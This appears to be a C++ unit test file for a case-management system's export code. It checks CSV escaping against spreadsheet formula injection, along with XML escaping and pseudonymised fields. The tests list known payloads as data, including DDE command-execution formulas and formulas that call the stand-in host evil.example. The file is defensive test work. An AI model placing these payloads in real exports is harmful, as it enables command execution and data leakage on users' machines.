#include "api/export/export.h"

#include <gtest/gtest.h>

#include <boost/json/parse.hpp>

#include "api/export/fields.h"
#include "api/export/markup.h"
#include "domain/cases/all.h"
#include "domain/cases/lead/lead.h"

namespace chapterhouse::exports {
namespace {

// Shows what it was asked, so that a test can tell a pseudonym from the value.
class Marked final : public BlindIndex {
 public:
  std::string blind(std::string_view purpose, std::string_view value) const override {
    return "<" + std::string(purpose) + "|" + std::to_string(value.size()) + ">";
  }
};

TEST(CsvCell, MakesFormulasInertInEveryDisguise) {
  for (const char* formula :
       {"=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠SUM", "=cmd|' /C calc'!A0"})
    EXPECT_EQ(csv_cell(formula), std::string("'") + formula);
  for (const char* formula : {"\t=1", "\r=1", "\n=1"})
    EXPECT_EQ(csv_cell(formula), std::string("\"'") + formula + "\"");
  EXPECT_EQ(csv_cell(" =1"), "' =1");
  EXPECT_EQ(csv_cell(std::string("\0=1", 3)), "'=1");
  EXPECT_EQ(csv_cell("=\"a\",b"), "\"'=\"\"a\"\",b\"");
}

// What has been used against spreadsheets, each also behind what a reader may trim.
TEST(CsvCell, DisarmsThirtyPayloads) {
  const std::string payloads[] = {"=cmd|' /C calc'!A0",
                                  "=1+1",
                                  "=HYPERLINK(\"http://evil.example\",\"x\")",
                                  "=IMPORTXML(\"http://evil.example\",\"//a\")",
                                  "=WEBSERVICE(\"http://evil.example\")",
                                  "=DDE(\"cmd\";\"/C calc\";\"x\")",
                                  "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0",
                                  "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "=-1+1+cmd|' /C calc'!A0",
                                  "-1-1",
                                  "+1",
                                  "@A1",
                                  "\t=1+1",
                                  "\r=1+1",
                                  "\n=1+1",
                                  "\r\n=1+1",
                                  "\xEF\xBC\x9D"
                                  "1+1",
                                  "\xEF\xBC\x8B"
                                  "1",
                                  "\xEF\xBC\x8D"
                                  "1",
                                  "\xEF\xBC\xA0"
                                  "A1",
                                  "=\"a\",b",
                                  "=1\"\"",
                                  "=rundll32|'x'!A",
                                  "=FILTERXML(\"a\",\"b\")",
                                  "=IMAGE(\"http://evil.example/x.png\")",
                                  "\t@A1",
                                  "\t+1",
                                  "-A1:A9",
                                  "=$A$1"};
  EXPECT_EQ(std::size(payloads), 30u);
  const auto shown = [](std::string_view cell) {  // what a reader of RFC 4180 sees
    if (!cell.starts_with('"')) return std::string(cell);
    std::string text;
    for (std::size_t i = 1; i + 1 < cell.size(); ++i) {
      text += cell[i];
      if (cell[i] == '"') ++i;
    }
    return text;
  };
  const std::string nothing(1, '\0');
  for (const std::string& payload : payloads)
    for (const std::string& before :
         {std::string(), std::string(" "), std::string("\v"), nothing, nothing + " ",
          std::string("\xC2\xA0"), std::string("\xE3\x80\x80"), std::string("\xE2\x80\x8B"),
          std::string("\xEF\xBB\xBF"), std::string(" \xE3\x80\x80 ")}) {
      const std::string text = before + payload;
      const std::string cell = shown(csv_cell(text));
      EXPECT_TRUE(cell.starts_with('\'')) << text;
      std::string kept = text;
      std::erase(kept, '\0');
      EXPECT_EQ(cell.substr(1), kept) << "nothing else is changed";
    }
}

TEST(CsvCell, KeepsLongNumbersAsText) {
  EXPECT_EQ(csv_cell("12345678901"), "12345678901");
  EXPECT_EQ(csv_cell("123456789012"), "'123456789012");
  EXPECT_EQ(csv_cell("91110113MA00000000"), "91110113MA00000000");
}

TEST(CsvCell, QuotesAsRfc4180Says) {
  EXPECT_EQ(csv_cell("plain"), "plain");
  EXPECT_EQ(csv_cell(""), "");
  EXPECT_EQ(csv_cell("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_cell("a \"b\""), "\"a \"\"b\"\"\"");
  EXPECT_EQ(csv_cell("a\r\nb"), "\"a\r\nb\"");
}

TEST(XmlText, HoldsWhatXmlCannot) {
  EXPECT_EQ(xml_text("<a b=\"c\">&"), "&lt;a b=&quot;c&quot;&gt;&amp;");
  EXPECT_EQ(xml_text("a\x01\tb"), "a\xEF\xBF\xBD&#9;b");
}

TEST(Fields, ShowIdsUnderPseudonymsAndNoTextThatIsNoCode) {
  const Marked blind;
  const Pseudonyms names(blind);
  lead::ev::Registered event;
  event.unit = {"110113-renhe"};
  event.name = "巴适小馆";
  event.uscc = "92999999MA0000031N";
  event.enterprise = {"enterprise/92999999MA0000031N"};
  event.address = "河南村1号";
  event.industry = "H";
  event.employees = 8;
  event.contact_person.value = "张三";
  const auto shown = shown_json(shape_of<lead::ev::Registered>(), &event, names);
  const auto expected = boost::json::parse(R"({"unit":"110113-renhe","id_type":"uscc",
    "uscc":"enterprise:<export|29>","enterprise":"enterprise:<export|29>",
    "source":"registry_import","employees":8,"ownership":"unknown","industry":"H"})");
  EXPECT_EQ(shown, expected);
}

TEST(Fields, GuardedFieldsAreNeitherDeclaredNorShown) {
  for (const EventType* type : full_catalogue().events()) {
    const auto declared = declared_scalars(*type->shape);
    for (const Field& field : type->shape->fields) {
      if (field.data_class <= DataClass::kInternal) continue;
      for (const auto& [name, scalar] : declared)
        EXPECT_FALSE(name == field.name || name.starts_with(std::string(field.name) + "."))
            << type->key.family << "." << type->key.name << ": " << name;
    }
  }
}

TEST(Fields, ReferToTheStreamsOfCodesAndSessions) {
  lead::ev::Registered event;
  event.uscc = "92999999MA0000031N";
  event.enterprise = {"enterprise/92999999MA0000031N"};
  event.source_session = CaseId::parse("00112233445566778899aabbccddeeff");
  std::vector<Reference> references;
  collect_references(shape_of<lead::ev::Registered>(), &event, references);
  const std::vector<Reference> expected = {
      {"uscc", {"enterprise/92999999MA0000031N"}},
      {"enterprise", {"enterprise/92999999MA0000031N"}},
      {"source_session", {"session/00112233445566778899aabbccddeeff"}}};
  EXPECT_EQ(references, expected);
}

TEST(Formats, AreFoundByTheirNames) {
  for (const FormatInfo& format : formats()) EXPECT_EQ(format_named(format.key), &format);
  EXPECT_EQ(format_named("pdf"), nullptr);
}

}  // namespace
}  // namespace chapterhouse::exports
